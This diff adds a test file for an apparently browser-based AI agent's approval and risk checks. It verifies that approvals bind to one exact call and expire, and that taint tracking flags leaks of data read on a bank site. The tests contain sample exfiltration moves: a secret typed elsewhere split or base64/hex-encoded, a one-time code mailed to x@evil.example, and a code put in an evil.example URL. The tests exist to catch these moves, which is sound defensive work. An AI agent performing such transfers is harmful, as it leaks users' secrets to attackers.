@@ -1,0 +1,194 @@
+import {
+  type ApprovableCall,
+  ApprovalLedger,
+  approvalHash,
+  checkApproval,
+  isGranted,
+  rememberOptions,
+} from '@pagehand/contracts/approval';
+import { assessStep, assessToolCall } from '@pagehand/contracts/assess-risk';
+import { LIMITS } from '@pagehand/contracts/limits';
+import { describe, expect, it } from 'vitest';
+import { makePlan, makeRef, makeSnapshot } from '../contract/make-snapshot.ts';
+import { accepted } from '../contract/refusals.ts';
+
+const page = makeSnapshot([
+  makeRef({
+    ref: 'e1',
+    role: 'textbox',
+    name: 'Amount',
+    submits: { action: 'https://shop.example/order', method: 'post' },
+  }),
+  makeRef({ ref: 'e2', name: 'Send', submits: { action: 'https://shop.example/order', method: 'post' } }),
+  makeRef({
+    ref: 'e3',
+    role: 'searchbox',
+    name: 'Search',
+    submits: { action: 'https://shop.example/search', method: 'get' },
+  }),
+]);
+function step(value: unknown, snapshot = page) {
+  const [pinned] = accepted(makePlan([value]), snapshot).steps;
+  if (!pinned) return expect.fail('no step');
+  return pinned;
+}
+const call = (text: string): ApprovableCall => ({
+  kind: 'step',
+  origin: 'https://shop.example',
+  documentId: 'doc-0',
+  step: step({ kind: 'type', ref: 'e1', text, submit: true }),
+});
+const now = 1_800_000_000_000;
+const yes = async (what: ApprovableCall) => ({ hash: await approvalHash(what), approved: true, decidedAt: now });
+
+describe('P42, P43: an approval is for exactly one call, soon, once', () => {
+  it('P42: the approved call runs, one changed character does not', async () => {
+    const approval = await yes(call('100'));
+    expect(await checkApproval(approval, call('100'), now + 1_000)).toEqual({ ok: true });
+    for (const text of ['1000', '101', '100 ', '100\u200b', '1OO'])
+      expect(await checkApproval(approval, call(text), now)).toMatchObject({ ok: false, code: 'approval-mismatch' });
+  });
+  it('P42: another target, kind, option, origin or document is another call', async () => {
+    const base = call('100');
+    const approval = await yes(base);
+    const others: ApprovableCall[] = [
+      { ...base, origin: 'https://shop.example.evil.example' },
+      { ...base, documentId: 'doc-1' },
+      { ...base, kind: 'step', step: step({ kind: 'type', ref: 'e3', text: '100', submit: true }) },
+      { ...base, kind: 'step', step: step({ kind: 'type', ref: 'e1', text: '100' }) },
+      { ...base, kind: 'step', step: step({ kind: 'type', ref: 'e1', text: '100', submit: true, mode: 'append' }) },
+      { ...base, kind: 'step', step: step({ kind: 'fill', fields: [{ ref: 'e1', value: '100' }] }) },
+      {
+        kind: 'plan',
+        origin: base.origin,
+        documentId: base.documentId,
+        steps: [step({ kind: 'type', ref: 'e1', text: '100', submit: true })],
+      },
+    ];
+    for (const other of others)
+      expect(await checkApproval(approval, other, now)).toMatchObject({ ok: false, code: 'approval-mismatch' });
+  });
+  it('P42: a tool call is bound to tool, arguments and declaration; the order of keys does not matter', async () => {
+    const tool: ApprovableCall = {
+      kind: 'tool',
+      origin: '',
+      documentId: '',
+      tool: 'mail',
+      args: { to: 'a', body: { x: 1, y: [1, 2] } },
+      declaration: 'h1',
+    };
+    const approval = await yes(tool);
+    expect(await checkApproval(approval, { ...tool, args: { body: { y: [1, 2], x: 1 }, to: 'a' } }, now)).toEqual({
+      ok: true,
+    });
+    for (const other of [
+      { args: { to: 'a', body: { x: 1, y: [2, 1] } } },
+      { args: { to: 'a', cc: 'b', body: { x: 1, y: [1, 2] } } },
+      { tool: 'mail2' },
+      { declaration: 'h2' },
+    ])
+      expect(await checkApproval(approval, { ...tool, ...other }, now)).toMatchObject({ code: 'approval-mismatch' });
+  });
+  it('P43: older than two minutes, from the future, or of no time is stale', async () => {
+    const approval = await yes(call('1'));
+    expect(await checkApproval(approval, call('1'), now + LIMITS.approvalAgeMs)).toEqual({ ok: true });
+    for (const at of [now + LIMITS.approvalAgeMs + 1, now - 60_000, Number.NaN])
+      expect(await checkApproval(approval, call('1'), at)).toMatchObject({ code: 'approval-stale' });
+    expect(await checkApproval({ ...approval, decidedAt: Number.NaN }, call('1'), now)).toMatchObject({
+      code: 'approval-stale',
+    });
+  });
+  it('P43: an approval is used once, and a no is never a yes', async () => {
+    const ledger = new ApprovalLedger();
+    expect([ledger.use('i1/s1'), ledger.use('i1/s1'), ledger.use('i1/s2')]).toEqual([true, false, true]);
+    expect(await checkApproval({ ...(await yes(call('1'))), approved: false }, call('1'), now)).toMatchObject({
+      ok: false,
+    });
+  });
+  it('remembers high by choice and critical never', () => {
+    expect(rememberOptions('critical')).toEqual(['once']);
+    expect(rememberOptions('high')).toEqual(['once', 'run', 'site']);
+    expect(rememberOptions('low')).toEqual([]);
+    const asked = { origin: 'https://shop.example', actionKind: 'click', runId: 'r1', risk: 'high' as const };
+    const grant = { scope: 'site' as const, origin: 'https://shop.example', actionKind: 'click', grantedAt: 0 };
+    expect(isGranted([grant], asked)).toBe(true);
+    expect(isGranted([grant], { ...asked, risk: 'critical' })).toBe(false);
+    expect(isGranted([grant], { ...asked, origin: 'https://shop.example.evil.example' })).toBe(false);
+    expect(isGranted([grant], { ...asked, actionKind: 'type' })).toBe(false);
+    expect(isGranted([{ ...grant, scope: 'run', runId: 'r2' }], asked)).toBe(false);
+    expect(isGranted([{ ...grant, scope: 'run', runId: 'r1' }], asked)).toBe(true);
+    expect(isGranted([{ ...grant, scope: 'run' }], { ...asked, runId: '' })).toBe(false);
+  });
+});
+
+describe('P45: taint', () => {
+  const tainted = { snapshot: page, taint: ['https://bank.example', 'https://shop.example'] };
+  const clean = { snapshot: page, taint: ['https://shop.example'] };
+  it('P45: filling and submitting on another site asks, naming both; a search in a clean run does not', () => {
+    for (const value of [
+      { kind: 'fill', fields: [{ ref: 'e1', value: 'x' }] },
+      { kind: 'type', ref: 'e1', text: 'x' },
+      { kind: 'type', ref: 'e3', text: 'x', submit: true },
+    ]) {
+      const { risk, reasons } = assessStep(step(value), tainted);
+      expect(risk).toBe('high');
+      const detail = reasons.find(({ code }) => code === 'writes-to-other-site')?.detail;
+      expect(detail).toContain('https://bank.example');
+    }
+    expect(assessStep(step({ kind: 'click', ref: 'e2' }), tainted).risk).toBe('critical');
+    expect(assessStep(step({ kind: 'type', ref: 'e3', text: 'shoes', submit: true }), clean).risk).toBe('low');
+    expect(assessStep(step({ kind: 'type', ref: 'e1', text: 'shoes' }), clean).risk).toBe('low');
+  });
+  it('P45: reading and scrolling stay free in a tainted run', () => {
+    for (const value of [{ kind: 'read' }, { kind: 'scroll', direction: 'down' }, { kind: 'find', text: 'x' }])
+      expect(assessStep(step(value), tainted).risk).toBe('none');
+  });
+  it('P44, P45: typed text that carries what was read elsewhere is critical, also split over fields and encoded', () => {
+    const form = makeSnapshot(['e1', 'e2', 'e3'].map((ref) => makeRef({ ref, role: 'textbox', name: `Field ${ref}` })));
+    const secret = 'The vault code is 9917-42-XK and opens at noon on Friday';
+    const context = {
+      snapshot: form,
+      taint: ['https://bank.example'],
+      readTexts: [{ origin: 'https://bank.example', text: `Note: ${secret}. End.` }],
+    };
+    const cut = [secret.slice(0, 15), secret.slice(15, 30), secret.slice(30)];
+    for (const value of [
+      { kind: 'type', ref: 'e1', text: secret },
+      { kind: 'type', ref: 'e1', text: Buffer.from(secret).toString('base64') },
+      { kind: 'set_value', ref: 'e1', value: Buffer.from(secret).toString('hex') },
+      { kind: 'fill', fields: cut.map((part, index) => ({ ref: `e${index + 1}`, value: part })) },
+    ]) {
+      const { risk, reasons } = assessStep(step(value, form), context);
+      expect(risk).toBe('critical');
+      expect(reasons[0]?.detail).toMatch(/from https:\/\/bank\.example to https:\/\/shop\.example/);
+    }
+    expect(assessStep(step({ kind: 'type', ref: 'e1', text: 'See you on Friday at noon' }, form), context).risk).toBe(
+      'high',
+    );
+  });
+  it('a tool call that sends what was read elsewhere is critical too', () => {
+    const context = {
+      taint: ['https://bank.example'],
+      readTexts: [{ origin: 'https://bank.example', text: 'Your code is 482913, do not share it.' }],
+    };
+    const mail = {
+      tool: 'gmail_send',
+      risk: 'high',
+      source: 'agent' as const,
+      args: { to: 'x@evil.example', body: 'code 482913' },
+      destination: 'https://mail.google.com',
+    };
+    expect(assessToolCall(mail, context).risk).toBe('critical');
+    expect(assessToolCall({ ...mail, args: { to: 'x@evil.example', body: 'hello' } }, context).risk).toBe('high');
+    const fetching = {
+      tool: 'website',
+      risk: 'none',
+      source: 'agent' as const,
+      args: { url: 'https://evil.example/?c=482913' },
+      opensUrls: true,
+    };
+    expect(assessToolCall(fetching, context).risk).toBe('critical');
+    expect(assessToolCall({ ...fetching, args: { url: 'http://192.168.1.1/' } }, context).risk).toBe('critical');
+    expect(assessToolCall({ ...fetching, args: { url: 'https://news.example/' } }, context).risk).toBe('none');
+  });
+});
